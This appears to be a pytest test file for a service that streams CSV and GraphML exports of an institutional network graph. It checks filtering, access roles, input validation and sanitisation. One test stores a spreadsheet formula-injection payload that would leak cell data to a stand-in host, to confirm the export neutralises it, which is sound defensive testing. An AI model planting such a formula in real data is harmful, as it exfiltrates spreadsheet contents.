"""Streamed exports of a filtered subgraph: CSV nodes and edges, GraphML, refusals."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import httpx
import pytest

from hub.db.database import Database
from hub.domain.enums import Role
from hub.domain.principal import EVERYTHING
from hub.security.api_keys import ApiKeys
from hub.services import export as export_service
from hub.settings import Settings
from tests.conftest import serve

GRAPHML = "{http://graphml.graphdrawing.org/xmlns}"


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


async def _as(role: Role, db: Database, settings: Settings, url: str) -> httpx.Response:
    key = (await ApiKeys(db).create(role, "hudson-ridge-bank" if role is Role.PARTNER else None)).key
    async with serve(settings, db, {"Authorization": f"Bearer {key}"}) as http:
        return await http.get(url)


async def test_nodes_and_edges_of_a_filtered_subgraph(seeded: Database, client: httpx.AsyncClient) -> None:
    every = _rows(await client.get("/export/nodes.csv"))
    assert len(every) == 45 + 64
    assert {"Institution", "TechEnterprise"} == {r["type"] for r in every}
    yunhe = next(r for r in every if r["id"] == "yunhe-cloud")
    assert int(yunhe["degree"]) >= 15 and float(yunhe["pagerank"]) > 0

    banks = _rows(await client.get("/export/nodes.csv", params={"type": "Institution", "kind": "BANK"}))
    assert banks and all(r["type"] == "Institution" and r["kind"] == "BANK" for r in banks)

    edges = _rows(await client.get("/export/edges.csv"))
    assert edges and all(e["status"] == "ACTIVE" for e in edges)
    ids = {r["id"] for r in every}
    assert all(e["source"] in ids and e["target"] in ids for e in edges)

    cloud = {"capability": "cloud"}
    cloud_nodes = {r["id"] for r in _rows(await client.get("/export/nodes.csv", params=cloud))}
    cloud_edges = _rows(await client.get("/export/edges.csv", params=cloud))
    assert "yunhe-cloud" in cloud_nodes and len(cloud_nodes) < len(every)
    assert cloud_edges and all(e["source"] in cloud_nodes and e["target"] in cloud_nodes for e in cloud_edges)

    ended = _rows(await client.get("/export/edges.csv", params=[("status", "ENDED"), ("status", "ACTIVE")]))
    assert {e["status"] for e in ended} == {"ENDED", "ACTIVE"}


async def test_graphml_holds_the_same_subgraph(seeded: Database, client: httpx.AsyncClient) -> None:
    params = {"type": "Institution"}
    response = await client.get("/export/graph.graphml", params=params)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/graphml+xml")
    graph = ET.fromstring(response.text).find(f"{GRAPHML}graph")
    assert graph is not None
    nodes = graph.findall(f"{GRAPHML}node")
    edges = graph.findall(f"{GRAPHML}edge")
    assert len(nodes) == len(_rows(await client.get("/export/nodes.csv", params=params))) == 45
    assert len(edges) == len(_rows(await client.get("/export/edges.csv", params=params)))
    assert edges and all(e.findtext(f"{GRAPHML}data[@key='e_kind']") == "INTRA_SECTOR" for e in edges)
    names = {n.findtext(f"{GRAPHML}data[@key='n_name']") for n in nodes}
    assert "Thamesgate Bank (China)" in names


async def test_exports_are_written_as_rows_stream_in(
    seeded: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    # What the route hands to the response, chunk by chunk, as the database streams rows.
    monkeypatch.setattr(export_service, "ROWS_PER_CHUNK", 10)
    chosen = export_service.parse_filter([])
    for what in export_service.ExportFormat:
        chunks = [c async for c in export_service.Exporter(seeded).export(what, chosen, EVERYTHING)]
        assert len(chunks) >= 5, what
    nodes = export_service.Exporter(seeded).export(export_service.ExportFormat.NODES_CSV, chosen, EVERYTHING)
    text = [c async for c in nodes]
    # the header and 109 rows: ten chunks of ten rows (the first with the header), then the last nine
    assert len(text) == 11 and sum(c.count("\n") for c in text) == 110


async def test_analysts_do_not_see_hidden_partnerships_in_exports(
    seeded: Database, test_settings: Settings, client: httpx.AsyncClient
) -> None:
    url = "/export/edges.csv?status=PROPOSED"
    assert _rows(await client.get(url))  # the admin sees the proposals
    assert _rows(await _as(Role.ANALYST, seeded, test_settings, url)) == []


async def test_bad_filters_are_named_and_nothing_is_streamed(
    seeded: Database, client: httpx.AsyncClient
) -> None:
    response = await client.get("/export/nodes.csv", params={"kind": "BAKERY", "status": "LIVE", "size": "9"})
    assert response.status_code == 400
    problems = {p["parameter"]: p for p in response.json()["errors"][0]["extensions"]["problems"]}
    assert set(problems) == {"kind", "status", "size"}
    assert "BANK" in problems["kind"]["message"]

    missing = await client.get("/export/nodes.csv", params={"zone": "atlantis"})
    assert missing.status_code == 400
    assert missing.json()["errors"][0]["extensions"]["problems"] == [
        {"parameter": "zone", "message": "no Zone with id 'atlantis'", "code": "NOT_FOUND"}
    ]
    assert (await client.get("/export/nodes.xlsx")).status_code == 404


@pytest.mark.parametrize("route", ["nodes.csv", "edges.csv", "graph.graphml"])
async def test_a_filter_given_twice_is_refused_not_half_read(
    seeded: Database, client: httpx.AsyncClient, route: str
) -> None:
    twice = [("kind", "BANK"), ("kind", "INSURER"), ("type", "Institution"), ("type", "TechEnterprise")]
    response = await client.get(
        f"/export/{route}", params=[*twice, ("status", "ACTIVE"), ("status", "ENDED")]
    )
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/json"
    problems = {p["parameter"]: p for p in response.json()["errors"][0]["extensions"]["problems"]}
    assert set(problems) == {"kind", "type"}  # status is repeatable
    assert problems["kind"]["message"] == "may be given once (got 2 values)"
    for name in ("country", "zone", "capability", "partnershipKind"):
        again = await client.get(f"/export/{route}", params=[(name, "x"), (name, "y")])
        assert again.status_code == 400
        assert f"{name}: may be given once" in again.json()["errors"][0]["message"]


async def test_exports_need_an_analyst_or_more(
    seeded: Database, test_settings: Settings, anonymous: httpx.AsyncClient
) -> None:
    assert (await anonymous.get("/export/nodes.csv")).status_code == 401
    partner = await _as(Role.PARTNER, seeded, test_settings, "/export/nodes.csv")
    assert partner.status_code == 403
    assert partner.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    assert (await _as(Role.ANALYST, seeded, test_settings, "/export/nodes.csv")).status_code == 200


async def test_exports_stay_well_formed_whatever_a_stored_name_holds(
    seeded: Database, client: httpx.AsyncClient
) -> None:
    # Written straight to the graph, as text stored before inputs were checked would be.
    stored = 'Thamesgate\u0001 Bank\u202e\r\n"Quoted", <b>&amp;</b>\u000b\uffff'
    await seeded.write("MATCH (n:Organisation {id: 'thamesgate-bank'}) SET n.name = $name", name=stored)
    # What XML 1.0 cannot hold becomes U+FFFD, in every export; everything else is kept.
    exported = 'Thamesgate\ufffd Bank\u202e\r\n"Quoted", <b>&amp;</b>\ufffd\ufffd'

    graphml = await client.get("/export/graph.graphml", params={"type": "Institution"})
    graph = ET.fromstring(graphml.content).find(f"{GRAPHML}graph")  # an XML parser accepts it
    assert graph is not None
    node = graph.find(f"{GRAPHML}node[@id='thamesgate-bank']")
    assert node is not None and node.findtext(f"{GRAPHML}data[@key='n_name']") == exported
    assert len(graph.findall(f"{GRAPHML}node")) == 45

    rows = _rows(await client.get("/export/nodes.csv", params={"type": "Institution"}))
    assert len(rows) == 45
    assert next(r for r in rows if r["id"] == "thamesgate-bank")["name"] == exported


async def test_a_stored_formula_is_exported_as_text_not_run_by_a_spreadsheet(
    seeded: Database, client: httpx.AsyncClient
) -> None:
    formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")'
    await seeded.write("MATCH (n:Organisation {id: 'thamesgate-bank'}) SET n.name = $name", name=formula)
    await seeded.write("MATCH (n:Organisation {id: 'kestrel-bank'}) SET n.nameZh = '-1+2'")
    rows = _rows(await client.get("/export/nodes.csv", params={"type": "Institution"}))
    by_id = {r["id"]: r for r in rows}
    assert by_id["thamesgate-bank"]["name"] == "'" + formula
    assert by_id["kestrel-bank"]["nameZh"] == "'-1+2"
    # GraphML is no spreadsheet's input: it keeps the text as stored.
    graphml = await client.get("/export/graph.graphml", params={"type": "Institution"})
    graph = ET.fromstring(graphml.content).find(f"{GRAPHML}graph")
    assert graph is not None
    node = graph.find(f"{GRAPHML}node[@id='thamesgate-bank']")
    assert node is not None and node.findtext(f"{GRAPHML}data[@key='n_name']") == formula
